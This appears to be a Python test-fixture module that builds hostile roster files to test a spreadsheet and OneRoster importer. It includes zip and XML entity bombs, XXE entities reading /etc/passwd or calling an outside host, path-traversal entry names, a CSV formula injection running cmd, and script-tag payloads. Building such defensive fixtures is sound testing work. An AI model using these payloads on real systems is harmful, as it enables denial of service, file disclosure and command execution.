"""Files that want to break whoever opens them: rosters that unfold, lie or are something else; each made when it is asked for."""

import gzip
import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

NAMESPACE = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
MANY = 200_000
#: A row of a good roster.
GOOD_ROWS = (("王桂兰", "14000001001"), ("李建国", "14000001002"))
GOOD_CSV = "姓名,手机号\n王桂兰,14000001001\n李建国,14000001002\n".encode()


@dataclass(frozen=True)
class Hostile:
    """A file: its name, how its bytes are made, and whether a reader may find people in it after all."""

    name: str
    make: Callable[[], bytes]
    may_be_read: bool = False


def packed(parts: dict[str, str | bytes]) -> bytes:
    """Pack parts into a zip file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for name, data in parts.items():
            book.writestr(name, data)
    return out.getvalue()


def book_of(rows: str, *, strings: str = "", head: str = "", tail: str = "", more: dict | None = None, dimension: str = "A1:B3") -> bytes:
    """Write an .xlsx file by hand around the rows of its only sheet."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{kind}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {NAMESPACE} xmlns:r="{kind}"><sheets><sheet name="名单" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{kind}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="r2" Type="{kind}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{head}<worksheet {NAMESPACE}><dimension ref="{dimension}"/><sheetData>{rows}</sheetData>{tail}</worksheet>',
        "xl/sharedStrings.xml": strings or f"<sst {NAMESPACE}><si><t>x</t></si></sst>",
    }  # fmt: skip
    return packed({**parts, **(more or {})})


def row_of(number: int, *texts: str) -> str:
    """Write one row of a sheet."""
    cells = "".join(f'<c r="{chr(65 + at)}{number}" t="inlineStr"><is><t>{text}</t></is></c>' for at, text in enumerate(texts))
    return f'<row r="{number}">{cells}</row>'


GOOD_SHEET = row_of(1, "姓名", "手机号") + "".join(row_of(at, *row) for at, row in enumerate(GOOD_ROWS, start=2))
LAUGHS = "<!DOCTYPE x [<!ENTITY a 'haha'>" + "".join(f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefghi", "bcdefghij", strict=True)) + "]>"
READING = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
ASKING = "<!DOCTYPE x [<!ENTITY % e SYSTEM 'http://elsewhere.example/x'> %e;]>"


def _lying() -> bytes:
    """Give a zip whose list says that a part is small which unfolds to much more."""
    true = book_of(GOOD_SHEET + f"<!--{' ' * 80_000_000}-->")
    size = struct.pack("<I", 1_000)
    place = true.rfind(b"xl/worksheets/sheet1.xml") - 46
    return true[: place + 24] + size + true[place + 28 :]


def _locked() -> bytes:
    data = bytearray(book_of(GOOD_SHEET))
    for mark, flag in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + flag] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _many_sheets() -> bytes:
    return packed({"xl/workbook.xml": "<workbook/>", **{f"xl/worksheets/sheet{at}.xml": "<x/>" for at in range(5_000)}})


def _nested() -> bytes:
    inner = packed({"zero": bytes(10_000_000)})
    for depth in range(6):
        inner = packed({f"{at}-{depth}.zip": inner for at in range(4)})
    return inner


def _noise() -> bytes:
    return random.Random(7).randbytes(300_000)


def _doubled() -> bytes:
    out = io.BytesIO(book_of(GOOD_SHEET))
    with zipfile.ZipFile(out, "a") as book:
        book.writestr("xl/worksheets/sheet1.xml ".strip() + "x", "<x")
        book.writestr("xl/workbook.xml/", b"")
    return out.getvalue()


ONEROSTER_USERS = "sourcedId,status,role,givenName,familyName,sms\n"


def _oneroster(**more: str | bytes) -> bytes:
    """Pack OneRoster's users with other files."""
    return packed({"users.csv": ONEROSTER_USERS + "u1,,student,秀英,王,14000001001\n", **more})


def _lying_oneroster() -> bytes:
    """Give users that say that they are small and unfold to much more."""
    true = packed({"users.csv": ONEROSTER_USERS + "x" * 30_000_000})
    place = true.rfind(b"users.csv") - 46
    return true[: place + 24] + struct.pack("<I", 1_000) + true[place + 28 :]


_STRING = f"<sst {NAMESPACE}><si><t>{{}}</t></si></sst>"
_FIRST = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'

ROSTERS = (
    Hostile("bomb.xlsx", lambda: book_of(GOOD_SHEET, more={"xl/media/zero.bin": bytes(200_000_000)})),
    Hostile("bomb-sheet.xlsx", lambda: book_of("<row>" + " " * 49_000_000 + "</row>")),
    Hostile("bomb-rows.xlsx", lambda: book_of('<row r="1"><c r="A1"><v>1</v></c></row>' * 1_000_000), may_be_read=True),
    Hostile("lying-sizes.xlsx", _lying, may_be_read=True),
    Hostile("many-parts.xlsx", _many_sheets),
    Hostile("nested.xlsx", _nested),
    Hostile("nested-in-book.xlsx", lambda: packed({"xl/workbook.xml": _nested()})),
    Hostile("locked.xlsx", _locked),
    Hostile("huge-dimension.xlsx", lambda: book_of(GOOD_SHEET, dimension="A1:XFD1048576"), may_be_read=True),
    Hostile("far-cell.xlsx", lambda: book_of(GOOD_SHEET + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), may_be_read=True),
    Hostile("beyond-cell.xlsx", lambda: book_of(GOOD_SHEET + '<row r="99999999999"><c r="ZZZZZ99999999999"><v>1</v></c></row>'), may_be_read=True),
    Hostile("wide-rows.xlsx", lambda: book_of("".join(f'<row r="{at}"><c r="XFD{at}"><v>1</v></c></row>' for at in range(1, 4_000)))),
    Hostile("merged-all.xlsx", lambda: book_of(GOOD_SHEET, tail='<mergeCells><mergeCell ref="A1:A1048576"/><mergeCell ref="B1:XFD1048576"/></mergeCells>'), may_be_read=True),
    Hostile("many-merged.xlsx", lambda: book_of(GOOD_SHEET, tail="<mergeCells>" + '<mergeCell ref="A1:A1048576"/>' * 300_000 + "</mergeCells>"), may_be_read=True),
    Hostile("string-bomb.xlsx", lambda: book_of(_FIRST * 2, strings=_STRING.format("王" * 15_000_000))),
    Hostile("many-strings.xlsx", lambda: book_of(_FIRST, strings=f"<sst {NAMESPACE}>{'<si><t>x</t></si>' * 2_500_000}</sst>")),
    Hostile("laughs-strings.xlsx", lambda: book_of(_FIRST * 2, strings=LAUGHS + _STRING.format("&j;"))),
    Hostile("laughs-sheet.xlsx", lambda: book_of(row_of(1, "姓名") + row_of(2, "&j;"), head=LAUGHS)),
    Hostile("laughs-types.xlsx", lambda: book_of(GOOD_SHEET, more={"[Content_Types].xml": LAUGHS + "<Types>&j;</Types>"})),
    Hostile("entity-reads.xlsx", lambda: book_of(row_of(1, "姓名") + row_of(2, "&e;") + row_of(3, "王&e;"), head=READING), may_be_read=True),
    Hostile("entity-strings.xlsx", lambda: book_of(_FIRST * 2, strings=READING + _STRING.format("&e;"))),
    Hostile("entity-asks.xlsx", lambda: book_of(GOOD_SHEET, head=ASKING), may_be_read=True),
    Hostile("external-links.xlsx", lambda: book_of(GOOD_SHEET, more={"xl/externalLinks/externalLink1.xml": '<externalLink><externalBook r:id="x"/></externalLink>', "xl/externalLinks/_rels/externalLink1.xml.rels": '<Relationships><Relationship Target="http://elsewhere.example/x.xlsx" TargetMode="External"/></Relationships>'}), may_be_read=True),
    Hostile("macros.xlsm", lambda: book_of(GOOD_SHEET, more={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2_000)}), may_be_read=True),
    Hostile("../../traversal.xlsx", lambda: book_of(GOOD_SHEET, more={"../hostile-was-here": "x", "/etc/hostile": "x", "C:\\hostile": "x"}), may_be_read=True),
    Hostile("doubled-parts.xlsx", _doubled, may_be_read=True),
    Hostile("truncated.xlsx", lambda: book_of(GOOD_SHEET)[:-400]),
    Hostile("torn.xlsx", lambda: book_of(GOOD_SHEET)[:700]),
    Hostile("no-sheet.xlsx", lambda: packed({"xl/workbook.xml": f"<workbook {NAMESPACE}/>", "[Content_Types].xml": "<Types/>"})),
    Hostile("wrong-index.xlsx", lambda: book_of('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')),
    Hostile("wrong-dates.xlsx", lambda: book_of('<row r="1"><c r="A1" t="d"><v>99999-99-99</v></c><c r="B1"><v>1e999</v></c></row>')),
    Hostile("deep-xml.xlsx", lambda: book_of("<a>" * 200_000 + "</a>" * 200_000)),
    Hostile("oneroster-bomb.zip", lambda: packed({"users.csv": ONEROSTER_USERS + "x" * 40_000_000})),
    Hostile("oneroster-bomb-beside.zip", lambda: _oneroster(**{"enrollments.csv": bytes(40_000_000)})),
    Hostile("oneroster-lying.zip", _lying_oneroster),
    Hostile("oneroster-many.zip", lambda: _oneroster(**{f"{at}.csv": "" for at in range(5_000)})),
    Hostile("oneroster-rows.zip", lambda: packed({"users.csv": ONEROSTER_USERS + "u,,student,a,b,\n" * 60_000})),
    Hostile("oneroster-quotes.zip", lambda: packed({"users.csv": ONEROSTER_USERS + '"' * 1_000_001})),
    Hostile("oneroster-climbing.zip", lambda: packed({"../users.csv": ONEROSTER_USERS, "/etc/users.csv": "x", "C:\\users.csv": "x"})),
    Hostile("oneroster-climbing-beside.zip", lambda: _oneroster(**{"../../classes.csv": "x", "../hostile-was-here": "x"}), may_be_read=True),
    Hostile("oneroster-doubled.zip", lambda: _oneroster(**{"a/users.csv": ONEROSTER_USERS})),
    Hostile("oneroster-torn.zip", lambda: _oneroster()[:-30]),
    Hostile("oneroster-empty.zip", lambda: packed({"users.csv": ONEROSTER_USERS})),
    Hostile("oneroster-nobody.zip", lambda: packed({"users.csv": ONEROSTER_USERS + ",,,,,\n,,,,,\n"})),
    Hostile("oneroster-loops.zip", lambda: _oneroster(**{"classes.csv": "sourcedId,title\n" + "c,班\n" * 100_000, "enrollments.csv": "classSourcedId,userSourcedId,role\n" + "c,u1,student\n" * 150_000}), may_be_read=True),
    Hostile("word.xlsx", lambda: packed({"word/document.xml": "<x/>"})),
    Hostile("page.xls", lambda: b"<html><body><table><tr><td onclick=ran(1)>x</td></tr></table><script>ran(1)</script></body></html>"),
    Hostile("page.csv", lambda: b"\xef\xbb\xbf  <script>ran(1)</script>"),
    Hostile("drawing.csv", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>"),
    Hostile("program.csv", lambda: b"MZ\x90\x00\x03" + _noise()),
    Hostile("program-elf.csv", lambda: b"\x7fELF\x02\x01\x01" + bytes(400) + _noise()),
    Hostile("picture.csv", lambda: b"\x89PNG\r\n\x1a\n" + _noise()),
    Hostile("paper.csv", lambda: b"%PDF-1.7\n" + _noise()),
    Hostile("packed.csv", lambda: gzip.compress(GOOD_CSV)),
    Hostile("seven.csv", lambda: b"7z\xbc\xaf\x27\x1c" + _noise()),
    Hostile("old.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000)),
    Hostile("noise.csv", _noise),
    Hostile("columns.csv", lambda: b"," * 1_000_000 + b"x"),
    Hostile("wide.csv", lambda: ("姓名" + ",x" * 1_000_000).encode()),
    Hostile("empty-rows.csv", lambda: b"\n" * 1_000_000),
    Hostile("rows.csv", lambda: "姓名\n".encode() + "王桂兰\n".encode() * 1_000_000),
    Hostile("comma-rows.csv", lambda: b",,,\n" * 1_000_000),
    Hostile("nul.csv", lambda: b"\x00" * 5_000_000),
    Hostile("nul-between.csv", lambda: GOOD_CSV.replace(b",", b"\x00,\x00"), may_be_read=True),
    Hostile("utf16-unmarked.csv", lambda: GOOD_CSV.decode().encode("utf-16-le")),
    Hostile("utf16-unmarked-be.csv", lambda: GOOD_CSV.decode().encode("utf-16-be")),
    Hostile("utf16-torn.csv", lambda: GOOD_CSV.decode().encode("utf-16")[:-1], may_be_read=True),
    Hostile("utf32.csv", lambda: GOOD_CSV.decode().encode("utf-32")),
    Hostile("utf7.csv", lambda: GOOD_CSV.decode().encode("utf-7"), may_be_read=True),
    Hostile("mixed.csv", lambda: GOOD_CSV + "陈玉珍,14000001003\n".encode("gb18030") + "ÄÖÜ\n".encode("latin-1"), may_be_read=True),
    Hostile("big5.csv", lambda: "姓名,手機號\n王桂蘭,14000001001\n".encode("big5"), may_be_read=True),
    Hostile("surrogates.csv", lambda: b"\xed\xa0\x80\xed\xb0\x80,\xff\xfe\xfd\n" * 50, may_be_read=True),
    Hostile("formulas.csv", lambda: "姓名,手机号\n=cmd|' /C calc'!A0,=1+1\n@SUM(1),-1\n".encode(), may_be_read=True),
    Hostile("formulas-only.csv", lambda: b"=1+1\n=2+2\n", may_be_read=True),
    Hostile("totals.csv", lambda: "姓名,手机号\n合计,150\n".encode()),
    Hostile("heading.csv", lambda: "姓名,手机号,年龄\n".encode()),
    Hostile("empty.csv", lambda: b""),
    Hostile("blank.csv", lambda: " \r\n\t \r\n".encode() + "\u3000\n".encode()),
    Hostile("mark.csv", lambda: b"\xef\xbb\xbf"),
    Hostile("mark16.csv", lambda: b"\xff\xfe"),
    Hostile("cell.csv", lambda: ("姓名\n" + "王" * 3_000_000).encode()),
    Hostile("quotes.csv", lambda: ('姓名\n"' + '""' * 2_000_000 + '"').encode()),
    Hostile("unclosed.csv", lambda: ('姓名,手机号\n"王桂兰,14000001001\n' + "x,y\n" * MANY).encode()),
    Hostile("quote-line.csv", lambda: ('姓名,手机号\n' + '"' * 1_000_001).encode()),
    Hostile("returns.csv", lambda: b"\r" * 1_000_000 + "姓名".encode()),
    Hostile("sep.csv", lambda: "sep=\n姓名\n".encode()),
    Hostile("sep-quote.csv", lambda: 'sep="\n姓名\n王桂兰'.encode(), may_be_read=True),
    Hostile("sep-line.csv", lambda: "sep=\r\r\n姓名\r王桂兰".encode(), may_be_read=True),
    Hostile("long-line.csv", lambda: ("姓名," + "a" * 9_000_000).encode()),
    Hostile("too-large.csv", lambda: "姓名\n".encode() + b"x" * 10_000_001),
    Hostile("<script>ran(1)</script>.csv", lambda: b"<script>ran(1)</script>\n<img src onerror=ran(1)>\n", may_be_read=True),
)  # fmt: skip
